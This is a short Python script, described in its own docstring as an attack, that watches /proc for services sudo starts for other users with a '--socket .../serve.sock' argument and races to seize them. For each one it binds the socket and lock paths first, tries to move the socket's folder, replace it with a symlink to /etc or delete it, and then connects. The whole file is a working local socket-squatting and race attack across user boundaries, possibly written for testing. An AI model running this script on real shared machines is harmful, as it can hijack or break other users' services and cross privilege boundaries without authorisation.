"""Waits for services that sudo starts for other users, as their command lines say, and tries to be there first."""

import os
import socket
import threading
import time

held, reached = [], set()


def attack(path):
    for name in (path, path + ".lock"):
        try:
            s = socket.socket(socket.AF_UNIX)
            s.bind(name)
            s.listen()
            held.append(s)
            print("holds", name, flush=True)
        except OSError as e:
            print(e, flush=True)
    folder = os.path.dirname(path)
    for change in (lambda: os.rename(folder, folder + ".moved"), lambda: os.symlink("/etc", folder), lambda: os.rmdir(folder)):
        try:
            change()
            print("changed", folder, flush=True)
        except OSError as e:
            print(e, flush=True)
    for _ in range(200):
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(path)
            print("reached", path, flush=True)
            return
        except OSError:
            time.sleep(0.01)


print("attacking", flush=True)
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/cmdline").read().split("\0")
            path = words[words.index("--socket") + 1]
        except (OSError, ValueError):
            continue
        if path.endswith("/serve.sock") and path not in reached:
            reached.add(path)
            threading.Thread(target=attack, args=(path,), daemon=True).start()
